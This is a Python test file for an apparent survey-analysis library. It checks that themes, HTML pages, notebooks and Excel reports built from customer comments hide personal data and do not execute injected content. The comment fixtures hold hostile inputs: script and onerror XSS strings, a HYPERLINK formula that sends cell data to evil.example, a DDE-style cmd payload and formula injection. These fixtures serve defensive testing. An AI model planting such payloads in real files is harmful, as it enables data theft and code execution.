"""What people wrote stays in the frame: no file that leaves it holds a comment unasked, or personal data ever."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import npskit
from npskit.errors import RatingError, shown_values
from npskit.survey.theme_answers import Themes

PERSONAL = ("zoe.martin", "exemple.fr", "06 12 34 56 78", "0612345678", "FR7630006000011234567890189", "martin")
# A word that is in every comment and nowhere else.
MARK = "zanzibarite"
COMMENTS = [
    "<script>document.title='run'</script> trop cher",
    '<img src=x onerror="document.title=1"> prix élevés',
    '=HYPERLINK("http://evil.example/?"&A1;"prix")',
    "@SUM(1+1)*cmd|' /C calc'!A0 prix",
    "</table></section><h1>prix</h1>",
    "trop cher, écrivez à zoe.martin@exemple.fr",
    "les prix ! rappelez-moi au 06 12 34 56 78",
    "remboursez le prix sur FR7630006000011234567890189",
    "bel accueil, zoe.martin@exemple.fr",
    "bon accueil du magasin",
]


def answers() -> pd.DataFrame:
    """Answers with hostile comments, an agent known by an address, and a group that would run in a spreadsheet."""
    size = 400
    return pd.DataFrame(
        {
            "date": pd.date_range("2024-01-01", periods=size).strftime("%Y-%m-%d"),
            "note": [10, 9, 2, 3, 8, 6, 7, 1, 10, 9] * (size // 10),
            "commentaire": [f"{text} {MARK}" for text in COMMENTS] * (size // 10),
            "magasin": ["=1+1 Lyon", "<b>Nice</b>", "Évry", "Metz"] * (size // 4),
            "vendeur": ["zoe.martin@exemple.fr", "jo@exemple.fr"] * (size // 2),
            "client": [f"c{at}@exemple.fr" for at in range(size)],
        }
    )


def told(*texts: str) -> list[str]:
    """What of personal data stands in texts."""
    return [each for each in PERSONAL for text in texts if each in text]


@pytest.fixture(scope="module")
def found() -> Themes:
    return answers().nps.themes("retail", lang="fr", by="magasin", every="month")


# ---- themes


def test_no_personal_data_in_any_part_of_the_themes(found: Themes) -> None:
    everything = repr(found.to_dict())
    assert any("[e-mail]" in quote for quotes in found.table["quotes"] for quote in quotes)
    assert not told(everything, found._repr_html_(), found.to_frame().to_csv())
    assert not told(
        repr(found.plot().to_dict()), repr(found.plot_words().to_dict()), repr(found.plot_trend().to_dict())
    )


def test_what_is_shown_of_the_themes_is_no_markup(found: Themes) -> None:
    shown = found._repr_html_()
    for tag in ("<script", "<img", "<h1", "</section"):
        assert tag not in shown
    assert "&lt;" in shown


def test_addresses_are_no_words_of_a_theme(found: Themes) -> None:
    terms = [
        *found.uncovered["term"],
        *found.words["term"],
        *(word for words in found.table["terms"] for word in words),
    ]
    assert not [term for term in terms if any(part in term for part in ("zoe", "martin", "exemple", "mail", "iban"))]


def test_a_theme_of_few_people_has_no_quotes() -> None:
    frame = pd.DataFrame(
        {
            "nps": [2, 3, 9, 10] * 6,
            "comment": ["trop cher pour moi", "prix trop élevés ici", "bel accueil", "accueil très aimable"] * 6,
            "customer": [f"c{at % 4 if at % 4 < 2 else at}" for at in range(24)],
        }
    )
    themes = frame.nps(customer="customer").themes("retail", lang="fr")
    quotes = dict(zip(themes.table["theme"], themes.table["quotes"], strict=True))
    # Twelve comments of two people, and twelve of twelve.
    assert quotes["price"] == []
    assert quotes["welcome"]
    assert frame.drop(columns="customer").nps.themes("retail", lang="fr").table["quotes"][0]


# ---- errors and audits, which end in reports and tickets


def test_errors_do_not_repeat_what_was_written() -> None:
    for text in ("06 12 34 56 78", "0612345678", "zoe@exemple.fr", "rappelez-moi ce soir svp"):
        with pytest.raises(RatingError) as error:
            pd.DataFrame({"note": [*[9, 10] * 5, text]}).nps(rating="note").score()
        assert text not in str(error.value)
    assert "612345678" not in shown_values([612345678, 11], [1, 2])


def test_columns_of_addresses_are_no_groups_unless_asked_for() -> None:
    survey = npskit.Survey(answers())
    assert "vendeur" not in survey.segments().columns
    assert survey.summary(by="vendeur").shape[0] == 2


# ---- files


def test_explorer_page_holds_no_comment_and_no_address(tmp_path: Path) -> None:
    pytest.importorskip("anywidget")
    path = tmp_path / "page.html"
    answers().drop(columns="date").nps.explore().to_html(path)
    page = path.read_text(encoding="utf-8")
    assert "Metz" in page
    assert MARK not in page
    assert not told(page)
    assert "<b>Nice" not in page


def texts_of(content: bytes) -> str:
    """Every text of a file, those of a workbook's parts too."""
    if not content.startswith(b"PK"):
        return content.decode("utf-8", errors="replace")
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        return "\n".join(parts.read(name).decode("utf-8", errors="replace") for name in parts.namelist())


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """One report of a frame and one of a file, in which the notebook reads the comments itself."""
    pytest.importorskip("nbclient")
    folder = tmp_path_factory.mktemp("reports")
    answers().to_csv(folder / "answers.csv", index=False)
    made = {"frame": folder / "frame.xlsx", "file": folder / "file.ipynb"}
    answers().nps.report(made["frame"], lang="fr")
    from npskit.report import write_report

    write_report(folder / "answers.csv", made["file"], lang="fr")
    return made


@pytest.mark.parametrize("kind", ["frame", "file"])
def test_reports_hold_no_comment_and_no_address(reports: dict[str, Path], kind: str) -> None:
    content = texts_of(reports[kind].read_bytes())
    assert "Metz" in content
    assert MARK not in content
    assert not told(content)


def test_page_of_the_same_notebook_runs_nothing(reports: dict[str, Path]) -> None:
    import nbformat

    from npskit.report.page import page

    html = page(nbformat.read(reports["file"], as_version=4), title="<script>x</script>", lang="fr", interactive=False)
    assert MARK not in html
    assert not told(html)
    assert "<b>Nice" not in html
    assert "<script>x" not in html


def cells_of(path: Any) -> list[Any]:
    openpyxl = pytest.importorskip("openpyxl")
    return [cell for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows() for cell in row]


def test_workbook_runs_nothing(reports: dict[str, Path]) -> None:
    cells = cells_of(reports["frame"])
    assert not [cell.value for cell in cells if cell.data_type == "f" and "Lyon" in str(cell.value)]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells if cell.value == "=1+1 Lyon")
    assert any(cell.value == "=1+1 Lyon" for cell in cells)


def test_quotes_travel_redacted_into_a_page_and_a_workbook(found: Themes) -> None:
    nbformat = pytest.importorskip("nbformat")
    from npskit.charts.renderer import mime_bundle
    from npskit.report.page import page
    from npskit.report.workbook import workbook

    bundles = [{"text/html": found._repr_html_()}, mime_bundle(found.plot().to_dict())]
    outputs = [nbformat.v4.new_output("display_data", data=bundle) for bundle in bundles]
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x", outputs=outputs)])
    html = page(notebook, title="themes", lang="fr", interactive=False)
    book = workbook(notebook, title="themes", lang="fr")
    for text in (html, texts_of(book)):
        assert "[e-mail]" in text or "[phone]" in text
        assert not told(text)
    assert "<script>document" not in html
    assert not [cell.value for cell in cells_of(io.BytesIO(book)) if cell.data_type == "f"]


def test_cells_of_few_people_tell_nothing() -> None:
    frame = pd.DataFrame(
        {
            "nps": [2, 9] * 20,
            "comment": ["trop cher pour moi", "bel accueil"] * 20,
            "shop": ["Lyon"] * 20 + ["Nice"] * 20,
            "customer": [f"c{at}" for at in range(20)] + ["one", "two"] * 10,
        }
    )
    table = frame.nps(customer="customer").themes("retail", lang="fr", by="shop").by
    rows = list(zip(table["shop"], table["responses"], table["share"], table["score"], strict=True))
    assert all(n is not None and share == share for shop, n, share, _ in rows if shop == "Lyon")
    assert all(n is None and share != share and score != score for shop, n, share, score in rows if shop == "Nice")


def test_sites_known_by_their_page_stay_groups() -> None:
    frame = answers().assign(site=["www.lyon.example/a", "www.nice.example/b"] * 200).drop(columns="magasin")
    assert npskit.Survey(frame).segments().columns[0] == "site"
